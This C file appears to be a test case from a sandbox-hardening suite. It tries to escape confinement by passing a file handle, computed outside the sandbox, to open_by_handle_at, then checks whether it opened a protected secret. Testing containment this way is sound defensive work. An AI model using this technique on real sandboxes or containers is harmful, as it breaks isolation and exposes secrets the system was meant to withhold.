/* open_by_handle_at with the secret's file handle, computed outside the sandbox ($SB_HANDLE). */
#include "attack.h"
int main(void) {
  const char *hex = env_or("SB_HANDLE", "");
  unsigned char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  struct file_handle *h = (struct file_handle *)buf;
  int type, n = 0;
  if (sscanf(hex, "%d:", &type) != 1) result(0, "no handle given");
  const char *p = strchr(hex, ':') + 1;
  while (p[0] && p[1] && n < MAX_HANDLE_SZ) {
    sscanf(p, "%2hhx", &h->f_handle[n++]);
    p += 2;
  }
  h->handle_type = type;
  h->handle_bytes = n;
  int mnt = open(".", O_RDONLY | O_DIRECTORY);
  int fd = (int)syscall(SYS_open_by_handle_at, mnt, h, O_RDONLY);
  if (fd < 0) result(0, "open_by_handle_at: %s", errname(errno));
  result(is_secret_fd(fd), "open_by_handle_at opened the secret");
}
